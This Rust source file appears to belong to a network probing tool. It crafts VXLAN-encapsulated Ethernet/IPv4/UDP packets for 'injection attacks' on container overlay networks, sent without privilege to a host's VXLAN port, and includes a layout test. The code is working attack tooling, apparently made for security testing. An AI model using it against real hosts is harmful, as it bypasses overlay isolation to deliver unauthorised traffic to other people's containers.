//! Hand-made VXLAN datagrams for injection attacks: a VXLAN header for a VNI, then an Ethernet
//! frame holding an IPv4/UDP packet to a container, sent as the payload of an ordinary UDP
//! datagram to a host's VXLAN port (`netloom-probe udp-send`, no privilege needed).

use std::net::Ipv4Addr;

use anyhow::{ensure, Context, Result};

/// The source MAC of crafted inner frames (locally administered; no interface has it).
pub const CRAFTED_SRC_MAC: [u8; 6] = [0x02, 0x6e, 0x6c, 0x00, 0xa7, 0x7a];

/// What a crafted datagram carries inside the tunnel.
#[derive(Debug, Clone)]
pub struct InnerUdp<'a> {
    pub vni: u32,
    /// The target container's MAC on the overlay, `aa:bb:cc:dd:ee:ff`.
    pub dst_mac: &'a str,
    pub src: Ipv4Addr,
    pub dst: Ipv4Addr,
    pub dport: u16,
    pub payload: &'a [u8],
}

impl InnerUdp<'_> {
    /// The VXLAN datagram's payload: VXLAN header, Ethernet, IPv4 (checksummed), UDP (no checksum,
    /// which IPv4 allows).
    pub fn vxlan_payload(&self) -> Result<Vec<u8>> {
        let mut out = vec![0x08, 0, 0, 0];
        out.extend_from_slice(&self.vni.to_be_bytes()[1..]);
        out.push(0);
        for part in self.dst_mac.split(':') {
            out.push(u8::from_str_radix(part, 16).with_context(|| format!("MAC {}", self.dst_mac))?);
        }
        ensure!(out.len() == 14, "MAC {} is not 6 bytes", self.dst_mac);
        out.extend_from_slice(&CRAFTED_SRC_MAC);
        out.extend_from_slice(&[0x08, 0x00]);
        let udp_len = 8 + self.payload.len();
        let total = u16::try_from(20 + udp_len).context("payload too long")?;
        let mut ip = vec![0x45, 0];
        ip.extend_from_slice(&total.to_be_bytes());
        ip.extend_from_slice(&[0, 1, 0x40, 0, 64, 17, 0, 0]);
        ip.extend_from_slice(&self.src.octets());
        ip.extend_from_slice(&self.dst.octets());
        let sum = ipv4_checksum(&ip);
        ip[10..12].copy_from_slice(&sum.to_be_bytes());
        out.extend_from_slice(&ip);
        out.extend_from_slice(&40_000u16.to_be_bytes());
        out.extend_from_slice(&self.dport.to_be_bytes());
        out.extend_from_slice(&(udp_len as u16).to_be_bytes());
        out.extend_from_slice(&[0, 0]);
        out.extend_from_slice(self.payload);
        Ok(out)
    }

    /// `vxlan_payload` as hex, for `netloom-probe udp-send`.
    pub fn hex(&self) -> Result<String> {
        Ok(self.vxlan_payload()?.iter().map(|b| format!("{b:02x}")).collect())
    }
}

fn ipv4_checksum(header: &[u8]) -> u16 {
    let mut sum: u32 = header.chunks(2).map(|w| u32::from(u16::from_be_bytes([w[0], w[1]]))).sum();
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn layout_and_checksum() {
        let inner = InnerUdp {
            vni: 0x0015e3,
            dst_mac: "02:42:0a:3d:00:02",
            src: Ipv4Addr::new(10, 61, 0, 250),
            dst: Ipv4Addr::new(10, 61, 0, 2),
            dport: 7778,
            payload: b"hello",
        };
        let bytes = inner.vxlan_payload().unwrap();
        assert_eq!(&bytes[..8], &[0x08, 0, 0, 0, 0, 0x15, 0xe3, 0]);
        assert_eq!(&bytes[8..14], &[0x02, 0x42, 0x0a, 0x3d, 0, 2]);
        let ip = &bytes[22..42];
        // A header with its checksum in place sums to 0xffff.
        assert_eq!(ipv4_checksum(ip), 0);
        assert_eq!(&bytes[44..46], &7778u16.to_be_bytes());
        assert!(bytes.ends_with(b"hello"));
        assert!(InnerUdp { dst_mac: "02:42", ..inner }.vxlan_payload().is_err());
    }
}
